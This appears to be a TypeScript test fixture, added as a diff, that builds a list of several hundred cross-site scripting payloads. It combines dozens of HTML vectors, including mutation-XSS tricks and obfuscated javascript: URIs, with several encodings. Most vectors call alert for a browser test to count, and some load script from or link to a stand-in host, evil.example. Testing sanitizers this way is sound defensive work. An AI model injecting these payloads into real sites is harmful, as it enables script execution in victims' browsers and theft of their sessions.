@@ -1,0 +1,105 @@
+// More than five hundred ways to make a page run what a person typed: vectors of the trade, each in several disguises.
+// All of them call alert(…): a browser test replaces it and counts.
+
+const code = 'alert(document.domain)';
+
+const vectors: readonly string[] = [
+  `<script>${code}</script>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<script>/*</script><script>*/${code}</script>`,
+  `<img src=x onerror=${code}>`,
+  `<img src="x" onerror="${code}">`,
+  `<img/src=x/onerror=${code}>`,
+  `<img src=x onerror\n=\n${code}>`,
+  `<img srcset="x 1x" onerror=${code}>`,
+  `<image href=x onerror=${code}>`,
+  `<svg onload=${code}>`,
+  `<svg><script>${code}</script></svg>`,
+  `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${code}"><text x=20 y=20>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${code}</script></svg>#x"></svg>`,
+  `<svg><foreignObject><iframe onload=${code}></iframe></foreignObject></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
+  `<math><annotation-xml encoding="text/html"><img src=x onerror=${code}></annotation-xml></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
+  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
+  `<select><selectedcontent><img src=x onerror=${code}></selectedcontent></select>`,
+  `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=${code}></option></select>`,
+  `<template><img src=x onerror=${code}></template>`,
+  `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
+  `<iframe src="javascript:${code}"></iframe>`,
+  `<iframe srcdoc="<img src=x onerror=${code}>"></iframe>`,
+  `<iframe onload=${code}></iframe>`,
+  `<object data="javascript:${code}"></object>`,
+  `<object data="data:text/html,<script>${code}</script>"></object>`,
+  `<embed src="javascript:${code}">`,
+  `<a href="javascript:${code}">x</a>`,
+  `<a href="java\tscript:${code}">x</a>`,
+  `<a href="java\nscript:${code}">x</a>`,
+  `<a href=" \u0001javascript:${code}">x</a>`,
+  `<a href="JaVaScRiPt:${code}">x</a>`,
+  `<a href="&#106;&#97;vascript:${code}">x</a>`,
+  `<a href="javascript&colon;${code}">x</a>`,
+  `<a href="data:text/html,<script>${code}</script>">x</a>`,
+  `<a href="vbscript:msgbox(1)">x</a>`,
+  `<a href="//evil.example">x</a>`,
+  `<a href="/\\evil.example">x</a>`,
+  `<a href="https:\\\\evil.example" onclick=${code}>x</a>`,
+  `<a href="/ok" onmouseover="${code}">x</a>`,
+  `<a href="/ok" style="position:fixed;inset:0" target=_top>x</a>`,
+  `<b onclick=${code}>x</b>`,
+  `<p style="background:url(javascript:${code})">x</p>`,
+  `<p style="animation-name:x" onanimationstart="${code}">x</p>`,
+  `<style>@import 'javascript:${code}';</style>`,
+  `<link rel=stylesheet href="javascript:${code}">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
+  `<base href="javascript:/a/-${code}//">`,
+  `<body onload=${code}>`,
+  `<input autofocus onfocus=${code}>`,
+  `<details open ontoggle=${code}>x</details>`,
+  `<video><source onerror=${code}></video>`,
+  `<audio src onerror=${code}></audio>`,
+  `<marquee onstart=${code}>x</marquee>`,
+  `<form action="javascript:${code}"><button>x</button></form>`,
+  `<button formaction="javascript:${code}">x</button>`,
+  `<isindex action="javascript:${code}" type=image>`,
+  `<xss onpointerrawupdate=${code} style=display:block>x</xss>`,
+  `<td colspan="1" onmouseover=${code}>x</td>`,
+  `<!--><img src=x onerror=${code}>-->`,
+  `<!--[if gte IE 4]><script>${code}</script><![endif]-->`,
+  `<![CDATA[<img src=x onerror=${code}>]]>`,
+  `<?xml version="1.0"?><img src=x onerror=${code}>`,
+  `<scr<script>ipt>${code}</scr</script>ipt>`,
+  `<<script>${code}//<</script>`,
+  `<img src=\`x\` onerror=\`${code}\`>`,
+  `<img """><script>${code}</script>">`,
+  `<img src=x onerror=${code}`,
+  `</p></td></table><img src=x onerror=${code}>`,
+  `<title></title><img src=x onerror=${code}></title>`,
+  `<textarea></textarea><img src=x onerror=${code}></textarea>`,
+  `<xmp></xmp><img src=x onerror=${code}></xmp>`,
+  `<plaintext><img src=x onerror=${code}>`,
+];
+
+const escaped = (text: string): string =>
+  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
+const numeric = (text: string): string => [...text].map((char) => `&#${char.codePointAt(0)};`).join('');
+const hexadecimal = (text: string): string =>
+  [...text].map((char) => `&#x${char.codePointAt(0)!.toString(16)};`).join('');
+
+const disguises: readonly ((vector: string) => string)[] = [
+  (vector) => vector,
+  (vector) => escaped(vector),
+  (vector) => escaped(escaped(vector)),
+  (vector) => numeric(vector),
+  (vector) => hexadecimal(vector),
+  (vector) => `"'><p title="${vector}">${vector}`,
+  (vector) => `<p>Вагон <b>${vector}</b></p>`,
+  (vector) =>
+    vector.replaceAll(/<(\/?)([a-z]+)/gi, (_tag, slash: string, name: string) => `<${slash}${name.toUpperCase()}`),
+];
+
+export const xssPayloads: readonly string[] = vectors.flatMap((vector) =>
+  disguises.map((disguise) => disguise(vector)),
+);
